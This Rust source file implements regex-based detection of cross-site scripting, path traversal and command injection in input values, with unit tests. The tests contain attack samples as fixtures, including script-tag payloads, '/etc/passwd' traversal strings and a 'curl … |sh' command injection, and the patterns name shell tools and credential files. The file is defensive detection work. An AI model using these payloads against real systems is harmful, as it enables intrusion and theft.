//! Cross-site scripting, path traversal and OS command injection: small
//! sets of anchored patterns over the decoded, lower-cased value. Each
//! pattern needs syntax (a tag, an event handler, a `../` step, a shell
//! separator followed by a command) rather than a word alone.

use std::sync::LazyLock;

use regex::RegexSet;

use crate::finding::Kind;

struct Set {
    kind: Kind,
    names: &'static [&'static str],
    set: RegexSet,
}

fn set(kind: Kind, rules: &'static [(&'static str, &'static str)]) -> Set {
    Set {
        kind,
        names: Box::leak(
            rules
                .iter()
                .map(|(n, _)| *n)
                .collect::<Vec<_>>()
                .into_boxed_slice(),
        ),
        set: RegexSet::new(rules.iter().map(|(_, r)| *r)).expect("patterns compile"),
    }
}

static SETS: LazyLock<[Set; 3]> = LazyLock::new(|| {
    [
        set(
            Kind::InjectionXss,
            &[
                ("script tag", r"<\s*script[\s/>]"),
                (
                    "event handler",
                    r"<[a-z][a-z0-9]*[\s/][^>]*\bon[a-z]{3,}\s*=",
                ),
                ("javascript url", r"(?:^|[\s'\x22=(])(?:java|vb)script\s*:"),
                (
                    "active tag",
                    r"<\s*(?:iframe|object|embed|svg|math|base|meta|link|style)\b",
                ),
                (
                    "dom sink",
                    r"document\s*\.\s*(?:cookie|write|location)|\beval\s*\(|\balert\s*\(",
                ),
                ("data url", r"data\s*:\s*text/html"),
            ],
        ),
        set(
            Kind::InjectionPathTraversal,
            &[
                ("dot-dot step", r"(?:^|[/\\])\.\.+[/\\]"),
                ("dot-dot at end", r"[/\\]\.\.$"),
                (
                    "system file",
                    r"(?:^|[/\\])(?:etc[/\\](?:passwd|shadow|hosts|group)|proc[/\\]self[/\\]|windows[/\\]win\.ini|boot\.ini)",
                ),
                ("nul byte", r"\x00"),
            ],
        ),
        set(
            Kind::InjectionCommand,
            &[
                (
                    "separator and command",
                    r"(?:^|[;&|`\n]|\$\()\s*(?:cat|ls|id|whoami|uname|wget|curl|nc|ncat|bash|sh|zsh|ping|rm|chmod|python[0-9.]*|perl|php|nslookup|powershell|cmd(?:\.exe)?|net\s+user|type|echo)(?:\s*$|\s*[;&|`)]|\s+[-/$'\x22`.~]|\s+https?://)",
                ),
                (
                    "command substitution",
                    r"\$\(\s*[a-z]+[^)]*\)|`\s*[a-z]+[^`]*`",
                ),
                (
                    "shell path",
                    r"/bin/(?:ba|z|da)?sh\b|\bcmd\.exe\b|\$\{ifs\}",
                ),
            ],
        ),
    ]
});

/// Every `(kind, shape)` pattern set the value matches.
pub fn detect(lower: &str) -> Vec<(Kind, &'static str)> {
    SETS.iter()
        .filter_map(|s| {
            let m = s.set.matches(lower);
            m.iter().next().map(|i| (s.kind, s.names[i]))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::detect;

    fn kinds(v: &str) -> Vec<&'static str> {
        detect(&v.to_ascii_lowercase())
            .into_iter()
            .map(|(k, _)| k.name())
            .collect()
    }

    #[test]
    fn attacks() {
        for (v, k) in [
            ("<script>alert(1)</script>", "injection_xss"),
            ("<img src=x onerror=alert(1)>", "injection_xss"),
            ("<svg/onload=confirm(1)>", "injection_xss"),
            ("javascript:alert(document.cookie)", "injection_xss"),
            ("../../../../etc/passwd", "injection_path_traversal"),
            ("..\\..\\windows\\win.ini", "injection_path_traversal"),
            ("/static/../../etc/shadow", "injection_path_traversal"),
            ("1; cat /etc/passwd", "injection_command"),
            ("x | whoami", "injection_command"),
            ("$(id)", "injection_command"),
            ("`uname -a`", "injection_command"),
            ("a&&curl http://x/s|sh", "injection_command"),
        ] {
            assert!(kinds(v).contains(&k), "{v}: {:?}", kinds(v));
        }
    }

    #[test]
    fn benign() {
        for v in [
            "Tom & Jerry",
            "a < b and c > d",
            "see you at 5:30; cat lovers welcome",
            "/api/v1/accounts/42",
            "version 1.2..3",
            "email@example.com",
            "I like <b>bold</b> text",
            "the description is on file",
            "C# and F#",
        ] {
            assert!(kinds(v).is_empty(), "{v}: {:?}", kinds(v));
        }
    }
}
